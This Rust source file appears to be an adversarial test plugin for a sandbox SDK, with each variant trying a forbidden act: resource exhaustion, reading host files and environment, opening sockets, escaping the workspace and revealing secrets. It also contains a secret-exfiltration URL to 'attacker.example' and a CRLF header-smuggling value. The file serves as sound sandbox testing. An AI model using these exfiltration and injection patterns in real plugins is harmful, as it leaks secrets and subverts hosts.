//! Misbehaves on request: each attack tries one thing that a plugin must not be able to do.
//!
//! An attack that fails as it should either never returns, or returns what the
//! host told it. One that gets what it wanted ends with the output `stolen`.

use std::hint::black_box;
use std::net::TcpStream;
use std::time::Duration;

use bespin_sdk::http::{Header, Request};
use bespin_sdk::secrets::Part;
use bespin_sdk::{Deserialize, Failure, Outputs, Result, http, info, registry, reject, secrets, workspace};

#[derive(Deserialize)]
#[serde(rename_all = "kebab-case", deny_unknown_fields)]
struct Settings {
    /// What to try.
    attack: Attack,
    /// What to try it on, where that varies.
    #[serde(default)]
    on: String,
}

#[derive(Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Attack {
    /// Spins for ever.
    Loop,
    /// Spins for ever, but asks the host something now and then.
    LoopWithCalls,
    /// Sleeps longer than it may.
    Sleep,
    /// Takes memory until there is none.
    Memory,
    /// Calls itself without end, which fills the engine's stack.
    Recursion,
    /// Calls itself without end with large frames, which runs the stack in its own memory below address zero.
    Frames,
    /// Logs without end.
    LogFlood,
    /// Prints without end, and then ends well: what was printed is cut off.
    PrintFlood,
    /// Answers with more than it may.
    OutputFlood,
    /// Asks the host without end.
    HostCallFlood,
    /// Collects handles to a secret without end.
    HandleFlood,
    /// Pushes where it may not.
    Registry,
    /// Pushes where it may not, and says that all is well.
    RegistryHidden,
    /// Looks for environment variables.
    Environment,
    /// Reads a file of the host.
    File,
    /// Connects to an address.
    Socket,
    /// Reads a path of the workspace that leaves it.
    Workspace,
    /// Reads a secret that it may only use.
    Reveal,
    /// Puts a secret into the address of a request.
    SecretInAddress,
    /// Sends a request with a header that ends the message early.
    HeaderSmuggling,
    /// Sends a request.
    Request,
    /// Panics.
    Panic,
    /// Ends well, as an honest step does.
    None,
}

fn run(settings: Settings) -> Result<Outputs> {
    match settings.attack {
        Attack::None => Ok(Outputs::new().with("answer", "42")),
        Attack::Loop => spin(),
        Attack::LoopWithCalls => ask_and_spin(),
        Attack::Sleep => sleep(),
        Attack::Memory => take_memory(),
        Attack::Recursion => stolen(recurse(1)),
        Attack::Frames => stolen(recurse_with_frames(0)),
        Attack::LogFlood => flood_log(),
        Attack::PrintFlood => flood_output(),
        Attack::OutputFlood => Ok(Outputs::new().with("flood", "x".repeat(8 << 20))),
        Attack::HostCallFlood => flood_host(),
        Attack::HandleFlood => flood_handles(),
        Attack::Registry => push(&settings.on),
        Attack::RegistryHidden => push(&settings.on).or_else(|_| Ok(Outputs::new().with("answer", "all is well"))),
        Attack::Environment => environment(),
        Attack::File => file(&settings.on),
        Attack::Socket => socket(&settings.on),
        Attack::Workspace => workspace::read(&settings.on).map_err(Failure::from).and_then(stolen),
        Attack::Reveal => secrets::get(&settings.on)?.reveal().map_err(Failure::from).and_then(stolen),
        Attack::SecretInAddress => secret_in_address(&settings.on),
        Attack::HeaderSmuggling => header_smuggling(&settings.on),
        Attack::Request => request(&settings.on, "x-plain", "plain"),
        Attack::Panic => panic!("the plugin panics as it was asked to"),
    }
}

fn stolen<T>(_loot: T) -> Result<Outputs> {
    Ok(Outputs::new().with("stolen", "yes"))
}

fn spin() -> ! {
    let mut number = 0u64;
    loop {
        number = black_box(number.wrapping_add(1));
    }
}

fn ask_and_spin() -> Result<Outputs> {
    loop {
        let _names = workspace::list("")?;
        for number in 0..1_000_000u64 {
            black_box(number);
        }
    }
}

fn sleep() -> Result<Outputs> {
    std::thread::sleep(Duration::from_secs(3600));
    stolen(())
}

fn take_memory() -> Result<Outputs> {
    let mut hoard = Vec::new();
    loop {
        hoard.push(black_box(vec![1u8; 1 << 20]));
    }
}

#[inline(never)]
fn recurse(depth: u64) -> u64 {
    if depth == 0 { 1 } else { recurse(depth + 1).wrapping_mul(3) ^ depth }
}

#[expect(unconditional_recursion, reason = "it is the attack")]
fn recurse_with_frames(depth: u64) -> u64 {
    let frame = black_box([depth; 16]);
    recurse_with_frames(black_box(depth + 1)) + frame[3]
}

fn flood_log() -> Result<Outputs> {
    loop {
        info!("{}", "flood ".repeat(1000));
    }
}

fn flood_output() -> Result<Outputs> {
    for _ in 0..2000 {
        println!("{}", "flood ".repeat(1000));
    }
    Ok(Outputs::new().with("answer", "42"))
}

fn flood_host() -> Result<Outputs> {
    loop {
        let _names = workspace::list("");
    }
}

fn flood_handles() -> Result<Outputs> {
    let mut hoard = Vec::new();
    loop {
        hoard.push(secrets::get("token")?);
    }
}

fn push(to: &str) -> Result<Outputs> {
    registry::push(&registry::PushRequest { build: None, to: to.to_owned(), tag: "v1".to_owned() })?;
    stolen(())
}

fn environment() -> Result<Outputs> {
    match std::env::vars().next() {
        Some(_) => stolen(()),
        None => reject!("there is no environment"),
    }
}

fn file(path: &str) -> Result<Outputs> {
    match std::fs::read(path) {
        Ok(bytes) => stolen(bytes),
        Err(error) => reject!("no file: {error}"),
    }
}

fn socket(address: &str) -> Result<Outputs> {
    match TcpStream::connect(address) {
        Ok(stream) => stolen(stream),
        Err(error) => reject!("no connection: {error}"),
    }
}

fn secret_in_address(name: &str) -> Result<Outputs> {
    let secret = secrets::get(name)?;
    let url =
        vec![Part::Text("https://".to_owned()), Part::Secret(&secret), Part::Text(".attacker.example/".to_owned())];
    http::send(&Request { method: "GET".to_owned(), url, headers: Vec::new(), body: Vec::new() })?;
    stolen(())
}

fn header_smuggling(url: &str) -> Result<Outputs> {
    request(url, "x-plain", "plain\r\nhost: attacker.example")
}

fn request(url: &str, name: &str, value: &str) -> Result<Outputs> {
    let headers = vec![Header { name: name.to_owned(), value: vec![Part::Text(value.to_owned())] }];
    let url = vec![Part::Text(url.to_owned())];
    let answer = http::send(&Request { method: "GET".to_owned(), url, headers, body: Vec::new() })?;
    Ok(Outputs::new().with("status", answer.status.to_string()))
}

bespin_sdk::step!(run);
